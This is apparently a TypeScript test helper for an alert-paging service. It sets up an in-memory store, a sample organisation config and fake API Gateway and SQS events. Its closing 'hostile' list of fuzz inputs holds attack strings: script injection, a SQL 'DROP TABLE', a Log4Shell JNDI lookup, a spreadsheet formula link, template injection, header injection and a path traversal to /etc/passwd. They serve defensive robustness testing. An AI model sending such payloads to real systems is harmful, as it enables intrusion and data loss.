// A hub's entrance for tests: a real store, a config in force, and requests as API Gateway brings them.
import type { APIGatewayProxyEventV2, SQSEvent } from "aws-lambda";
import { openSqliteStore } from "../../functions/adapters/sqlite/store.ts";
import { applyOrganisation } from "../../functions/apply-organisation.ts";
import type { Tools } from "../../functions/lambda.ts";
import { loadConfig } from "../../schemas/load-config.ts";
import { localSignIn } from "./accounts.ts";

export const config = `
organisation: Test Works
people:
  ada: { name: Ada, time_zone: Europe/London, sms: "+447700900001", email: ada@test.example }
  linus: { name: Linus, time_zone: Europe/Stockholm, sms: "+46701740605" }
policies:
  shop: { levels: [{ page: [ada], within: 5m }, { page: [linus], within: 5m }] }
services:
  checkout: { name: Checkout, importance: high, policy: shop }
  website: { name: Website, policy: shop }
sources:
  prometheus: { kind: alertmanager, key: prometheus-key-0001 }
  anything: { kind: generic, key: [anything-key-0001, anything-key-0002] }
  drills: { kind: generic, key: drill-key-00000001, drill: true }
  aws: { kind: cloudwatch, accounts: ["111122223333"] }
routing:
  - { labels: { service: checkout }, service: checkout, group_by: [cluster] }
  - { service: website }
`;

export async function anEntrance(text = config) {
  const store = openSqliteStore(":memory:", { durable: false });
  let now = Date.UTC(2026, 10, 3, 1, 15);
  const clock = { now: () => now };
  const loaded = loadConfig(text);
  if ("problems" in loaded) throw new Error(JSON.stringify(loaded.problems));
  await applyOrganisation({ configItems: store.configItems, clock }, loaded);
  return { ...store, clock, signInSettings: localSignIn, pass: (ms: number) => void (now += ms) };
}

export interface Said {
  readonly tools: Tools;
  readonly lines: string[];
  readonly counted: string[];
}

/** Tools that remember what was said. */
export function listening(): Said {
  const lines: string[] = [];
  const counted: string[] = [];
  const say = (message: string, fields?: object) => void lines.push(JSON.stringify({ message, ...fields }));
  return {
    lines,
    counted,
    tools: { log: { info: say, warn: say, error: say }, count: (metric) => void counted.push(metric) },
  };
}

export interface Posted {
  readonly source?: string;
  readonly key?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly method?: string;
  readonly bytes?: Uint8Array;
}

export function posted(
  body: unknown,
  { source = "anything", key, headers = {}, method = "POST", bytes }: Posted = {},
): APIGatewayProxyEventV2 {
  const path = `/alerts/${source}`;
  return {
    version: "2.0",
    routeKey: "POST /alerts/{source}",
    rawPath: path,
    rawQueryString: "",
    headers: { "content-type": "application/json", ...headers },
    pathParameters: { source, ...(key === undefined ? {} : { key }) },
    requestContext: {
      http: { method, path, protocol: "HTTP/1.1", sourceIp: "192.0.2.1", userAgent: "" },
    } as never,
    body:
      bytes === undefined
        ? typeof body === "string"
          ? body
          : JSON.stringify(body)
        : Buffer.from(bytes).toString("base64"),
    isBase64Encoded: bytes !== undefined,
  };
}

export const records = (...bodies: readonly unknown[]): SQSEvent => ({
  Records: bodies.map((body, n) => ({ messageId: `m${n}`, body: JSON.stringify(body) })) as never,
});

/** Texts that broke somebody's program once. */
export const hostile: readonly string[] = [
  "",
  " ",
  "\u0000",
  "\u001b[2J\u001b]0;owned\u0007",
  "\r\nX-Injected: yes",
  "\u202egnp.exe",
  "\ud800",
  "👩‍🚒".repeat(400),
  "<script>alert(1)</script>",
  "<Say>hello</Say>",
  "'; DROP TABLE alerts; --",
  "{{constructor.constructor('return process')()}}",
  "${jndi:ldap://192.0.2.1/a}",
  '=HYPERLINK("http://192.0.2.1")',
  "../../../etc/passwd",
  "__proto__",
  "constructor",
  "a".repeat(100_000),
  "Z̸̡̢͔̥͚̟̖͎".repeat(200),
  "%00%0a",
];
